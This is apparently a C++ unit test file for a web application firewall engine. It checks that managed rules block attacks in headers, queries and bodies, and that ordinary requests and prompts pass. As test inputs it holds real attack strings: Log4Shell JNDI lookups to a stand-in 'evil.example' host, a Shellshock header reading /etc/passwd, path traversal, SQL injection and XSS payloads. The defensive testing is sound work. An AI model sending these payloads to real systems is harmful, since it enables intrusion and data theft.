// The whole request through the managed rules, with both engines (Hyperscan and the literal
// fallback), and the policy of each route kind.
#include "waf/engine.h"

#include <gtest/gtest.h>

#include "unit/waf/corpus.h"

namespace parapet::waf {
namespace {

class WafEngineTest : public ::testing::TestWithParam<bool> {
 protected:
  void SetUp() override {
    auto s = RuleSet::compile(managed_rules(), 0, "managed", GetParam());
    ASSERT_TRUE(s) << s.error().message;
    set_ = *s;
  }
  Verdict run(const Request& r, RouteKind kind = RouteKind::kOrigin, Policy p = {}) {
    p.route = kind;
    return inspect(*set_, r, p, scanner_);
  }
  Verdict with_header(std::string_view name, std::string_view value,
                      RouteKind kind = RouteKind::kOrigin) {
    headers_ = {{"Host", "example.com"}, {name, value}, {"Accept", "*/*"}};
    Request r;
    r.path = "/default/app/index";
    r.headers = headers_;
    return run(r, kind);
  }
  Verdict with_body(std::string_view body, RouteKind kind, Policy p = {}) {
    Request r;
    r.path = "/default/openai/chat/completions";
    r.body = body;
    return run(r, kind, std::move(p));
  }
  std::shared_ptr<const RuleSet> set_;
  Scanner scanner_;
  std::vector<Field> headers_;
};

INSTANTIATE_TEST_SUITE_P(Waf, WafEngineTest, ::testing::Values(true, false),
                         [](const auto& info) { return info.param ? "Hyperscan" : "Literal"; });

TEST_P(WafEngineTest, UsesTheEngineAsked) {
  EXPECT_EQ(set_->hyperscan(), GetParam() && hyperscan_available());
}

TEST_P(WafEngineTest, Log4shellInUserAgentBlocksWithANeutralizedExcerpt) {
  Verdict v = with_header("User-Agent", "Mozilla ${jndi:ldap://evil.example/a}");
  ASSERT_EQ(v.action, Action::kBlock);
  const Match* m = v.blocking();
  ASSERT_NE(m, nullptr);
  EXPECT_EQ(m->rule_id, "log4shell");
  EXPECT_EQ(m->target, kHeaders);
  EXPECT_EQ(m->name, "User-Agent");
  EXPECT_EQ(m->severity, Severity::kCritical);
  EXPECT_EQ(m->excerpt.find("${"), std::string::npos) << m->excerpt;
  EXPECT_NE(m->excerpt.find("$\\{jndi:ldap://evil"), std::string::npos) << m->excerpt;
  EXPECT_EQ(summarize(v), "log4shell@headers:User-Agent");
}

TEST_P(WafEngineTest, EveryLog4shellPayloadInEveryPosition) {
  for (const auto& p : testing::corpus_lines("log4shell.txt")) {
    EXPECT_EQ(with_header("X-Api-Version", p).action, Action::kBlock) << "header: " << p;
    Request q;
    q.path = "/default/app/search";
    std::string query = "q=";  // a literal '&' would end the parameter: clients send %26
    for (char c : p) query += c == '&' ? std::string("%26") : std::string(1, c);
    q.query = query;
    EXPECT_EQ(run(q).action, Action::kBlock) << "query: " << p;
    std::string json = "{\"prompt\":\"";
    for (char c : p) {
      if (c == '"' || c == '\\') json += '\\';
      json += c;
    }
    json += "\"}";
    EXPECT_EQ(with_body(json, RouteKind::kOrigin).action, Action::kBlock) << "body: " << p;
  }
}

TEST_P(WafEngineTest, CredentialHeadersNeverLeakIntoExcerpts) {
  Verdict v = with_header("Authorization", "Bearer sk-secret-123 ${jndi:ldap://e/a}");
  ASSERT_EQ(v.action, Action::kBlock);
  EXPECT_EQ(v.matches[0].excerpt.find("sk-secret"), std::string::npos) << v.matches[0].excerpt;
}

TEST_P(WafEngineTest, ShellshockTraversalSqliXssOnOrigins) {
  EXPECT_EQ(with_header("Referer", "() { :; }; echo; /bin/cat /etc/passwd").blocking()->rule_id,
            "shellshock");
  Request r;
  r.path = "/default/app/..%2f..%2fetc/passwd";
  EXPECT_EQ(run(r).blocking()->rule_id, "path-traversal");
  r.path = "/default/app/x";
  r.query = "id=1%27%20OR%201%3D1--";
  EXPECT_EQ(run(r).blocking()->rule_id, "sqli-basic");
  r.query = "q=1+UNION/**/SELECT+password+FROM+users";
  EXPECT_EQ(run(r).blocking()->rule_id, "sqli-basic");
  r.query = "q=%3Cscript%3Ealert(1)%3C/script%3E";
  EXPECT_EQ(run(r).blocking()->rule_id, "xss-basic");
  r.query = "next=JaVaScRiPt:alert(1)";
  EXPECT_EQ(run(r).blocking()->rule_id, "xss-basic");
  EXPECT_EQ(with_body(R"({"file":"../../etc/shadow"})", RouteKind::kOrigin).blocking()->rule_id,
            "path-traversal-body");
}

TEST_P(WafEngineTest, AiRoutesFlagPromptBodiesButBlockHeaders) {
  Verdict v =
      with_body(R"({"messages":[{"role":"user","content":"hi ${jndi:ldap://e.example/a}"}]})",
                RouteKind::kAi);
  EXPECT_EQ(v.action, Action::kLog);
  ASSERT_EQ(v.matches.size(), 1u);
  EXPECT_EQ(v.matches[0].target, kBody);
  EXPECT_EQ(v.matches[0].name, "content");
  EXPECT_EQ(with_header("User-Agent", "${jndi:ldap://e/a}", RouteKind::kAi).action, Action::kBlock);
  Policy strict;
  strict.body = Action::kBlock;
  EXPECT_EQ(with_body(R"({"prompt":"${jndi:rmi://e/a}"})", RouteKind::kAi, strict).action,
            Action::kBlock);
}

TEST_P(WafEngineTest, ModesAndOverrides) {
  Request r;
  r.path = "/default/app/x";
  r.query = "q=<script>";
  Policy p;
  p.mode = Action::kLog;
  EXPECT_EQ(run(r, RouteKind::kOrigin, p).action, Action::kLog);
  p.mode = Action::kOff;
  EXPECT_TRUE(run(r, RouteKind::kOrigin, p).matches.empty());
  Policy o;
  o.overrides = {{"xss-basic", Action::kOff}};
  EXPECT_TRUE(run(r, RouteKind::kOrigin, o).matches.empty());
  o.overrides = {{"xss-basic", Action::kLog}};
  EXPECT_EQ(run(r, RouteKind::kOrigin, o).action, Action::kLog);
}

TEST_P(WafEngineTest, BenignPromptsPassOnAiRoutesUnflagged) {
  size_t n = 0;
  for (const auto& line : testing::corpus_lines("benign-prompts.txt")) {
    std::string json = "{\"model\":\"gpt-4o-mini\",\"messages\":[{\"role\":\"user\",\"content\":\"";
    for (char c : line) {
      if (c == '"' || c == '\\') json += '\\';
      json += c;
    }
    json += "\"}]}";
    Verdict v = with_body(json, RouteKind::kAi);
    EXPECT_TRUE(v.matches.empty()) << line << " -> " << summarize(v);
    ++n;
  }
  EXPECT_GE(n, 50u);
}

TEST_P(WafEngineTest, OrdinaryRequestsPass) {
  headers_ = {{"Host", "api.example.com"},
              {"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120"},
              {"Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"},
              {"Referer", "https://www.example.com/search?q=parapet+gateway&page=2"},
              {"Cookie", "session=abc123; theme=dark; consent=1"},
              {"Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig"}};
  Request r;
  r.path = "/default/app/v1/users/42/orders";
  r.query = "sort=-created_at&limit=50&filter%5Bstatus%5D=open&q=O%27Reilly";
  r.headers = headers_;
  r.body = R"({"name":"Ana","note":"Price is 5 < 7 & 3 > 2; see ${docs}","tags":["a","b"]})";
  EXPECT_TRUE(run(r).matches.empty()) << summarize(run(r));
}

TEST_P(WafEngineTest, FormBodiesAreParsedLikeQueries) {
  headers_ = {{"Content-Type", "application/x-www-form-urlencoded; charset=utf-8"}};
  Request r;
  r.path = "/default/app/login";
  r.headers = headers_;
  r.body = "user=admin&pass=1%27+or+1%3D1--";
  Verdict v = run(r);
  ASSERT_NE(v.blocking(), nullptr);
  EXPECT_EQ(summarize(v), "sqli-basic@body:pass");
}

TEST_P(WafEngineTest, InvalidJsonBodyIsScannedRaw) {
  EXPECT_EQ(with_body("{\"a\": ${jndi:ldap://e/a}", RouteKind::kOrigin).action, Action::kBlock);
  EXPECT_EQ(with_body("plain ${jndi:ldap://e/a} text", RouteKind::kOrigin).action, Action::kBlock);
}

TEST_P(WafEngineTest, CustomLiteralRule) {
  auto rules = managed_rules();
  auto custom = parse_rules(R"(
version = 1
[[rule]]
id = "emergency-1"
targets = ["uri", "headers"]
pattern = "/wp-login.php"
)",
                            "t");
  ASSERT_TRUE(custom);
  rules.push_back((*custom)[0]);
  auto s = RuleSet::compile(rules, 1, "c", GetParam());
  ASSERT_TRUE(s);
  Request r;
  r.path = "/default/app/WP-LOGIN.PHP";
  Policy p;
  Verdict v = inspect(**s, r, p, scanner_);
  ASSERT_EQ(v.action, Action::kBlock);
  EXPECT_EQ(v.matches[0].rule_id, "emergency-1");
  // The scanner regrows for the new set and still serves the old one.
  EXPECT_TRUE(inspect(*set_, r, p, scanner_).matches.empty());
}

}  // namespace
}  // namespace parapet::waf
